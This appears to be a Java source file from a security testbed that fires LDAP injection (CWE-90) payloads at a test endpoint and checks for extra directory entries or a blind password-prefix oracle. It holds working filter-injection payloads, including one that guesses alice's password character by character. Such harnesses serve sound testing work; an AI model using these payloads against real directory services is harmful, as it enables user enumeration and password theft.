package secplane.testbeds.attacks.injection;

import java.net.http.HttpResponse;
import java.util.List;
import java.util.Properties;
import secplane.testbeds.attacks.AttackResult;
import secplane.testbeds.attacks.Testbed;

/**
 * LDAP injection (CWE-90) into the search filter {@code (&(uid=<user>)(objectClass=person))} of
 * {@code /ldap/find?user=}. Evidence: people other than the one asked for, or, for the blind
 * variant, an answer that depends on alice's password, an attribute the endpoint never shows.
 *
 * <p>Every payload keeps the filter one balanced expression. The classic {@code *)(uid=*))(|(uid=*},
 * which closes the AND and appends a second filter, is not a variant: the JDK's JNDI encoder sends the
 * second filter as extra bytes inside the search request, and UnboundID's server answers the first
 * and then drops the connection, so the client sees the entries only now and then (about one try in
 * thirty here). Its effect is real but cannot be observed reliably.
 */
public final class LdapInjectionAttack extends InjectionAttack {

    public enum Variant implements InjectionVariant {
        /** A bare wildcard: every person. */
        WILDCARD("*"),
        /** A prefix wildcard: everyone whose uid starts with {@code a}. */
        PREFIX_WILDCARD("a*"),
        /** Adds a condition that is always true: {@code (&(uid=*)(objectClass=*)(objectClass=person))}. */
        ATTRIBUTE_INJECTION("*)(objectClass=*"),
        /** Adds a whole OR term: {@code (&(uid=*)(|(uid=*)(cn=*))(objectClass=person))}. */
        OR_INJECTION("*)(|(uid=*)(cn=*)"),
        /** Blind: {@code (&(uid=alice)(userPassword=<guess>*)...)} finds alice only when the guess is right. */
        BLIND_ATTRIBUTE("alice)(userPassword=<guess>*");

        private final String payload;

        Variant(String payload) {
            this.payload = payload;
        }

        @Override
        public String endpoint() {
            return "/ldap/find";
        }

        @Override
        public String payload() {
            return payload;
        }
    }

    @Override
    public Category category() {
        return Category.LDAP;
    }

    @Override
    public List<Variant> variants() {
        return List.of(Variant.values());
    }

    @Override
    public AttackResult fire(Testbed target, InjectionVariant injectionVariant, Twin twin) throws Exception {
        Variant variant = own(Variant.class, injectionVariant);
        String path = twin.path(variant.endpoint());
        if (variant == Variant.BLIND_ATTRIBUTE) {
            Properties secrets = secrets(target);
            String prefix = secrets.getProperty("ldap.password.alice").substring(0, 6);
            HttpResponse<String> right = get(target, path, "user", variant.payload().replace("<guess>", prefix));
            HttpResponse<String> wrong = get(target, path, "user", variant.payload().replace("<guess>", "zz-wrong"));
            boolean oracle = count(right.body()) == 1 && right.body().contains("alice") && count(wrong.body()) == 0;
            return result(variant, twin, oracle, right.statusCode(), oracle
                    ? "alice was found with her password's first characters '" + prefix + "' and not with a wrong guess"
                    : "the answer did not depend on the password (" + abbreviate(right.body()) + " / "
                            + abbreviate(wrong.body()) + ")");
        }
        HttpResponse<String> response = get(target, path, "user", variant.payload());
        int people = count(response.body());
        return result(variant, twin, people >= 2, response.statusCode(), people >= 2
                ? people + " people returned for one uid"
                : "no extra entries: " + abbreviate(response.body()));
    }
}
